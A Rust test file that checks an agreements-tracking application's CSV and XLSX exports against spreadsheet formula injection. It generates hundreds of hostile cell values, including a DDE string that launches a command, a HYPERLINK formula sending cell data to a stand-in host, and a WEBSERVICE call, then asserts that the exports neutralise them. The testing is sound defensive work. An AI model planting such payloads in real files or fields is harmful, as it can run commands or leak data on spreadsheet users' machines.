//! Three hundred texts that spreadsheets might take for formulas, in every text of an agreement and of a milestone: none is one in
//! any file, each is read as it was, and our own import takes off what the export put before it.
//!
//! With a folder in ENTENTE_SHEETS the files are left there for `scripts/inert_cells.py`, which opens them with LibreOffice and
//! openpyxl.

use super::read::{Sheet, csv, xlsx};
use crate::milestones::rows::planned;
use crate::support::{TestApp, on_both, people};
use entente::access::Role;
use entente::agreements::NewAgreement;
use entente::agreements::rows::ParticularsRow;
use entente::reports::sheets::inert::{bare, inert, is_dangerous};
use entente::reports::sheets::{Cell, CsvSheet, Sheet as _, XlsxSheet};
use std::collections::BTreeSet;
use std::path::PathBuf;

const SIGNS: [&str; 15] =
    ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "−", "\t", "\r", "\n", "\0"];

const BEFORE: [&str; 21] = [
    "", " ", "   ", "\u{a0}", "\u{feff}", "\u{200b}", "\u{200e}", "\u{202e}", "\u{2003}", "\u{ad}", "\u{b}",
    "'", "''", "\"", "a\n", "a\r\n", "a\r", "a;", "a,", "a|", "a\t",
];

const BEHIND: [&str; 5] = [
    "1+1",
    "cmd|'/c calc'!A0",
    "HYPERLINK(\"http://x.example/?\"&A1,\"y\")",
    "WEBSERVICE(\"http://x.example\")",
    "DDE(\"a\";\"b\";\"c\")",
];

/// Every sign behind everything that may stand before it, each with something behind it.
fn payloads() -> Vec<String> {
    let mut all = BTreeSet::new();
    for (n, sign) in SIGNS.iter().enumerate() {
        for (m, before) in BEFORE.iter().enumerate() {
            all.insert(format!("{before}{sign}{}", BEHIND[(n + m) % BEHIND.len()]));
        }
    }
    all.extend(
        [";=1+1", "\"=1+1\"", "';=1+1", "=1+1\";\"=2", "\"\"\n=1", "{=1+1}", "=-1", "x\u{2028}=1"]
            .map(str::to_owned),
    );
    all.into_iter().collect()
}

#[test]
fn there_are_three_hundred_of_them() {
    let all = payloads();
    assert!(all.len() >= 300, "{}", all.len());
    let dangerous = all.iter().filter(|text| is_dangerous(text)).count();
    assert!(dangerous > 220, "{dangerous}");
}

fn folder() -> Option<PathBuf> {
    #[expect(clippy::disallowed_methods, reason = "only the environment says where the files are left")]
    let folder = std::env::var("ENTENTE_SHEETS").ok()?;
    let folder = PathBuf::from(folder);
    std::fs::create_dir_all(&folder).expect("a folder");
    Some(folder)
}

fn leave(name: &str, bytes: &[u8]) {
    if let Some(folder) = folder() {
        std::fs::write(folder.join(name), bytes).expect("room");
    }
}

#[test]
fn no_payload_is_a_formula_in_a_file_and_each_is_read_as_it_was() {
    let payloads = payloads();
    let row = |text: &String| [Cell::Text(text.clone()), Cell::Text(format!("{text} "))];
    let mut out = Vec::new();
    let mut sheet = CsvSheet::new(&mut out).expect("a sheet");
    payloads.iter().for_each(|text| sheet.note("Note", text).expect("a note"));
    sheet.heads(&["=Head", "Other"]).expect("heads");
    payloads.iter().for_each(|text| sheet.row(&row(text)).expect("a row"));
    sheet.finish().expect("an end");
    leave("payloads.csv", &out);
    let found = csv(&out);
    assert_eq!((found.notes.len(), found.rows.len()), (payloads.len(), payloads.len()));
    for ((cells, (_, note)), text) in found.rows.iter().zip(&found.notes).zip(&payloads) {
        assert!(!is_dangerous(&cells[0]) && !is_dangerous(note), "{cells:?}");
        assert_eq!((bare(&cells[0]), bare(note)), (text.into(), text.into()));
    }
    let mut out = std::io::Cursor::new(Vec::new());
    let mut sheet = XlsxSheet::new(&mut out, &[20, 20]).expect("a sheet");
    sheet.note("Note", "=1+1").expect("a note");
    sheet.heads(&["=Head", "Other"]).expect("heads");
    payloads.iter().for_each(|text| sheet.row(&row(text)).expect("a row"));
    sheet.finish().expect("an end");
    leave("payloads.xlsx", out.get_ref());
    let found = xlsx(out.get_ref());
    let texts: Vec<&String> = found.rows.iter().map(|row| &row[0]).collect();
    assert_eq!(texts, payloads.iter().collect::<Vec<_>>());
}

/// The texts that a form or a database takes: no NUL, and not empty once the space around them is gone.
fn storable() -> Vec<String> {
    payloads().into_iter().filter(|text| !text.contains('\0')).collect()
}

fn with_payloads(app: &TestApp) -> Vec<String> {
    let texts = storable();
    for (n, text) in texts.iter().enumerate() {
        let mut new: NewAgreement = crate::agreement_pages::agreement(text);
        let words = Some(text.clone());
        new.particulars = ParticularsRow {
            summary: words.clone(),
            originals_location: words.clone(),
            archive_ref: words.clone(),
            legal_authority: words.clone(),
            financial_note: words.clone(),
            territorial_scope: words,
            ..ParticularsRow::default()
        };
        for party in &mut new.parties {
            party.name_as_in_text = Some(text.clone());
        }
        let id = crate::agreement_pages::entered(app, &new);
        if n % 10 == 0 {
            planned(app, &id, text);
        }
    }
    texts
}

fn cells_of(sheet: &Sheet, head: &str) -> BTreeSet<String> {
    let at = sheet.heads.iter().position(|name| name == head).expect("a column");
    sheet.rows.iter().map(|row| row[at].clone()).collect()
}

#[test]
fn no_field_of_a_record_is_a_formula_in_any_list() {
    on_both(|app| {
        let texts = with_payloads(app);
        let (manager, owner) = (people::manager(app), people::id_of(app, Role::Manager));
        assert!(!owner.is_empty());
        let lists =
            ["/agreements", "/milestones", "/deadlines", "/moves", "/conflicts", "/changes", "/portfolio"];
        for list in lists {
            let name = list.trim_start_matches('/');
            let file = manager.get(&format!("{list}.csv")).expect(200).bytes;
            leave(&format!("{name}.csv"), &file);
            let sheet = csv(&file);
            let cells = sheet.rows.iter().flatten().chain(sheet.notes.iter().map(|(_, value)| value));
            let is_number = |cell: &&String| cell.parse::<i64>().is_ok();
            let dangerous: Vec<&String> =
                cells.filter(|cell| is_dangerous(cell) && !is_number(cell)).collect();
            assert_eq!(dangerous, Vec::<&String>::new(), "{list}");
            let book = manager.get(&format!("{list}.xlsx")).expect(200).bytes;
            leave(&format!("{name}.xlsx"), &book);
            assert_eq!(xlsx(&book).rows.len(), sheet.rows.len(), "{list}");
        }
        let sheet = csv(&manager.get("/agreements.csv").expect(200).bytes);
        let held = cells_of(&sheet, "Short title");
        let book = cells_of(&xlsx(&manager.get("/agreements.xlsx").expect(200).bytes), "Short title");
        for text in &texts {
            assert!(held.contains(inert(text).as_ref()), "{text:?} is not as it was in the CSV");
            assert!(book.contains(text), "{text:?} is not as it was in the workbook");
        }
    });
}
